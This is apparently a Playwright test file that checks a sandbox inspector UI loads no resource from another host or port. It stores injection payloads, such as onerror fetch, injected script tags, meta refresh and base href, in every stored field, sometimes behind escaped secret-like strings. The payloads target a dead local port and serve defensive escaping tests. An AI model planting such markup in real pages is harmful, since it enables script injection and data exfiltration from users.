import { existsSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from "vitest";
import type { Sandbox } from "../../sandbox/index.ts";
import { runCli, temporaryFolder } from "../support/cli.ts";
import { controlEnvironmentOf, sandboxForTest } from "../support/sandbox.ts";
import { call, post, submissionForm, submit } from "../support/sandbox-requests.ts";

const { CLAIMS_TEST_CHROMIUM = "" } = process.env;
const hasBrowser = existsSync(CLAIMS_TEST_CHROMIUM);

/** Text before the markup that a redaction finds: a secret whose characters are escaped. */
const ESCAPED_SECRETS = ["sk%5Fsandbox%5Faaaaaaaaaaaaaa ", "sk\\u005fsandbox\\u005faaaaaaaaaaaaaa "];

const MARKUP = [
  "<meta http-equiv=refresh content='0;url=http://127.0.0.1:9/?",
  '"><img src=http://127.0.0.1:9/x onerror=fetch("http://127.0.0.1:9")>',
  "</script><script src=http://127.0.0.1:9/x.js></script>",
  "<link rel=stylesheet href=http://127.0.0.1:9/x.css><base href=http://127.0.0.1:9/>",
  "<style>*{background:url(http://127.0.0.1:9/x)}</style><iframe src=http://127.0.0.1:9/></iframe>",
];

/** Each markup as it is, with the codings that a redaction could undo, and behind each secret. */
const TEXTS = MARKUP.flatMap((markup) => [
  markup,
  ...ESCAPED_SECRETS.flatMap((secret) => [
    secret + markup,
    secret + encodeURIComponent(markup),
    secret + markup.replace(/[<>"']/g, (character) => `\\u00${character.charCodeAt(0).toString(16)}`),
  ]),
]);

/** Stores the text wherever a caller can. Resolves to the pages that show it. */
async function store(sandbox: Sandbox, text: string): Promise<readonly string[]> {
  const { body: job } = await submit(sandbox, submissionForm({ seller_name: text, name: `${text}.csv` }));
  await post(sandbox, "/v1/clients", { name: text, reference: text });
  await call(sandbox, `/v1/clients?x=${encodeURIComponent(text)}`);
  const sink = `${sandbox.url}/_sandbox/sink/${encodeURIComponent(text)}`;
  await post(sandbox, "/v1/webhooks/endpoints", {
    ...{ label: text, url: sink, environmentScope: "all", subscribedEvents: ["partner.test"] },
  });
  const { deliveries } = await sandbox.webhooks.emit({ type: "partner.test", data: { text } });
  const request = (await sandbox.requests.list()).at(-1);
  return [
    `/jobs/${job.jobId}`,
    `/requests/${request?.number}`,
    `/deliveries/${deliveries.at(-1)?.deliveryId}`,
    `/endpoints/${deliveries.at(-1)?.endpointId}`,
    `?q=${encodeURIComponent(text)}`,
  ];
}

describe.skipIf(!hasBrowser)("pages with hostile text in a browser", () => {
  let browser: Browser;
  beforeAll(async () => {
    const { chromium } = await import("playwright-core");
    browser = await chromium.launch({ executablePath: CLAIMS_TEST_CHROMIUM, chromiumSandbox: false });
  });
  afterAll(() => browser?.close());

  it("request nothing from another host or port, in the inspector and in its file", async () => {
    const sandbox = await sandboxForTest();
    const context = await browser.newContext();
    onTestFinished(() => context.close());
    const page = await context.newPage();
    const elsewhere: string[] = [];
    const file = pathToFileURL(join(temporaryFolder(), "run.html")).href;
    page.on("request", (request) => {
      if (!request.url().startsWith(`${sandbox.url}/`) && request.url() !== file)
        elsewhere.push(request.url());
    });
    const ticket = await call(sandbox, "/_sandbox/inspect", { method: "POST", token: sandbox.controlToken });
    await page.goto(String(ticket.body.url));
    const open = async (path: string) => {
      expect((await page.goto(`${sandbox.url}/_sandbox/ui${path}`))?.status(), path).toBe(200);
      expect(await page.content(), path).toContain("sandbox");
    };
    for (const text of TEXTS) for (const path of await store(sandbox, text)) await open(path);
    for (const list of ["", "/jobs", "/deliveries", "/endpoints", "/records", "/faults", "/state"])
      await open(list);
    const args = ["sandbox", "inspect", "--out", new URL(file).pathname];
    expect((await runCli(args, { env: controlEnvironmentOf(sandbox) })).code).toBe(0);
    await page.goto(file);
    await page.locator("h1").first().waitFor();
    expect(elsewhere).toEqual([]);
  }, 240_000);
});
